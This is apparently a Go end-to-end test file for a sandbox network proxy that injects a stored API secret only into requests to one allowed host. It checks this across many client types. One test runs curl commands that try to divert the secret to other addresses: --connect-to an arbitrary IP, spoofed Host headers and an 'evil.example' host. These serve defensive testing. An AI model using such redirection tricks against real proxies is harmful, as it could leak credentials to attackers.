package e2e

import (
	"encoding/json"
	"fmt"
	"net/http"
	"slices"
	"strings"
	"testing"

	"github.com/moat-sandbox/moat/api"
	"github.com/moat-sandbox/moat/internal/lab"
	"github.com/moat-sandbox/moat/test/harness"
)

// apiKey is a secret that no sandbox ever sees. It goes into requests to
// example.com, and stands nowhere else.
const apiKey = "sk-LIVE-31415926535897932384"

// keyed is a document that allows example.com and google.com, and has the
// secret set in requests to the first.
func keyed() api.NewSandbox {
	return hosts([]string{"example.com", "google.com"}, everything, map[string]api.Transform{
		"example.com": {Headers: map[string]string{"Authorization": "Bearer ${e2b.secrets.key}"}},
	})
}

func withKey(t *testing.T) *harness.Server {
	t.Helper()
	s := harness.Start(t, harness.Options{})
	if _, err := s.Client().SetSecret(t.Context(), "key", apiKey); err != nil {
		t.Fatal(err)
	}
	return s
}

// talkers ask %s for a page with the Authorization of their own, each in the
// way of its kind, and trust what the sandbox trusts.
var talkers = map[string]string{
	"requests":     `python3 -c 'import requests, sys; print(requests.get(sys.argv[1], headers={"authorization": "mine"}).text)' %s/headers`,
	"pip":          `python3 -m pip download --retries 0 --no-deps --index-url %s/ six 2>&1 | grep "No matching distribution"`,
	"Java":         `java Fetch.java %s/headers`,
	"Node https":   `node -e 'require("https").get(process.argv[1], {headers: {authorization: "mine"}}, r => r.pipe(process.stdout))' %s/headers`,
	"Go, and gRPC": prober + ` grpc %s`,
	"WebSocket":    prober + ` websocket %s/ws`,
	"events":       `curl -sSN -m 10 %s/events/5?every=10ms | grep -c ^data: | grep -qx 5`,
	"large body":   `head -c 30000000 /dev/zero | curl -sS -m 60 -T - %s/echo | cmp - <(head -c 30000000 /dev/zero)`,
}

// Streams of all kinds get the header set without knowing of it, once, and only
// at the host of the rule; elsewhere they speak to the server itself.
func TestInjectedIntoStreams(t *testing.T) {
	s := withKey(t)
	box := withProber(t, s, keyed())
	box.Upload(t, "testdata/Fetch.java", "Fetch.java")
	for name, program := range talkers {
		for _, host := range []string{"example.com", "google.com"} {
			from := len(s.Lab.Requests())
			line := fmt.Sprintf(program, "https://"+host)
			if got := box.Run(t, "bash -c '"+strings.ReplaceAll(line, "'", `'\''`)+"'"); got.Code != 0 || strings.Contains(got.Stdout, "CERT") {
				t.Errorf("%s to %s: %+v", name, host, got)
			}
			arrived := s.Lab.Requests()[from:]
			if len(arrived) == 0 {
				t.Errorf("%s to %s: no request arrived", name, host)
			}
			for _, r := range arrived {
				expectKey(t, name, host, r)
			}
		}
	}
	seen := records(t, s, box)
	for _, r := range seen {
		if intercepted := r.Name == "example.com" && r.Protocol == "http"; intercepted != r.Intercepted || intercepted != slices.Equal(r.Injected, []string{"Authorization"}) {
			t.Errorf("record %+v", r)
		}
	}
}

// expectKey looks at a request that has arrived for the header of the rule.
func expectKey(t *testing.T, program, host string, r lab.Request) {
	t.Helper()
	got := r.Header["Authorization"]
	if want := []string{"Bearer " + apiKey}; host == "example.com" && !slices.Equal(got, want) {
		t.Errorf("%s: %s got %q, want the secret once", program, host, got)
	}
	if strings.Contains(fmt.Sprint(r.Header), apiKey) && host != "example.com" {
		t.Errorf("%s: %s got the secret", program, host)
	}
	if r.Host != host || !r.TLS || r.ServerName != host {
		t.Errorf("%s: %s got a request for %s on a connection for %s", program, host, r.Host, r.ServerName)
	}
}

// Attack 40: an address of the sandbox's choice, with the host of the rule on
// it, is never sent the header, in TLS or in the clear.
func TestAttack40SecretToAnotherAddress(t *testing.T) {
	s := withKey(t)
	open := keyed()
	open.Network.AllowOut, open.Network.DenyOut = nil, nil // everything is reachable
	for name, spec := range map[string]api.NewSandbox{"names": keyed(), "open": open} {
		box := s.Create(t, spec)
		from := len(s.Lab.Requests())
		for _, line := range []string{
			"curl -sS -m 10 --connect-to ::45.60.70.80: https://example.com/headers",
			"curl -sS -m 10 --connect-to ::45.60.70.80: http://example.com/headers",
			"curl -sS -m 10 -H 'Host: example.com' http://45.60.70.80/headers",
			"curl -sSk -m 10 -H 'Host: example.com' https://45.60.70.80/headers",
			"curl -sSk -m 10 -H 'Host: example.com' https://evil.example/headers",
			"curl -sS -m 10 -H 'Host: evil.example' https://example.com/headers",
			"curl -sS -m 10 --http1.1 -H 'Host: google.com' https://example.com/headers",
		} {
			got := box.Run(t, line)
			if strings.Contains(line, "Host: evil") && !strings.Contains(got.Stdout, "misdirected request") {
				t.Errorf("%s, %s: %+v", name, line, got)
			}
		}
		for _, r := range s.Lab.Requests()[from:] {
			home := r.To.Addr().String() == "93.184.216.34" || r.To.Addr().String() == "2606:2800:220:1::34"
			if strings.Contains(fmt.Sprint(r.Header), apiKey) && (!home || r.Host != "example.com") {
				t.Errorf("%s: %v at %v got the secret", name, r.Host, r.To)
			}
		}
	}
}

// A sandbox that had no rules when it was made trusts the authority as soon as
// there are some; connections that pass unseen end then, and the next request
// has the header.
func TestRulesComeLater(t *testing.T) {
	s := withKey(t)
	box := s.Create(t, only("example.com"))
	box.MustRun(t, "curl -sSf https://example.com/")
	box.Start(t, "curl -sN 'https://example.com/events/1000?every=1s' >/tmp/events; echo ended >/tmp/ended")
	s.Wait("events arrive", func() bool { return box.Run(t, "test -s /tmp/events").Code == 0 })
	rules, err := json.Marshal(keyed().Network)
	if err != nil {
		t.Fatal(err)
	}
	if answer := s.Request(t, http.MethodPut, "/sandboxes/"+box.ID+"/network", string(rules)); answer.Status != http.StatusNoContent {
		t.Fatalf("update: %+v", answer)
	}
	s.Wait("the unseen connection ends", func() bool { return box.Run(t, "test -e /tmp/ended").Code == 0 })
	from := len(s.Lab.Requests())
	box.MustRun(t, "curl -sSf https://example.com/; node -e 'fetch(\"https://example.com/\").then(r => r.text()).then(console.log)'")
	arrived := s.Lab.Requests()[from:]
	if len(arrived) != 2 {
		t.Errorf("%d requests arrived, want 2", len(arrived))
	}
	for _, r := range arrived {
		expectKey(t, "after the update", "example.com", r)
	}
}
